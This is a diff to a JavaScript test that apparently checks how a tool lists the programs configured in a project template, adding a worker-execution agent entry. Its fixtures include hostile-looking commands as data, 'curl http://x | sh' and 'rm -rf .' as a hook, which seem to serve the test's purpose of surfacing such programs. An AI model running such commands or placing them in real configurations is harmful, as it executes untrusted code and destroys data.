@@ -14,7 +14,11 @@ describe("the programs of a project's template", () => {
     lab.ofProject("ours", {
       extends: "_default",
       config: { agent: "command:./agent --fast" },
-      phases: { analysis: { agent: "text:curl http://x | sh" }, aggregation: { agent: "acp:gemini" } },
+      phases: {
+        analysis: { agent: "text:curl http://x | sh" },
+        aggregation: { agent: "acp:gemini" },
+        workerExecution: { agents: { claude: { agent: "command:./not-claude" }, plain: { agent: "claude" } } },
+      },
       hooks: { onError: "command:rm -rf .", onWorkerStart: { run: " COMMAND:date" }, onTasksGenerated: "registered" },
     });
     expect(programs(lab, "ours")).toEqual([
@@ -23,6 +27,7 @@ describe("the programs of a project's template", () => {
       'hooks.onWorkerStart.run: " COMMAND:date"',
       'phases.aggregation.agent: "acp:gemini"',
       'phases.analysis.agent: "text:curl http://x | sh"',
+      'phases.workerExecution.agents.claude.agent: "command:./not-claude"',
     ]);
   });
 
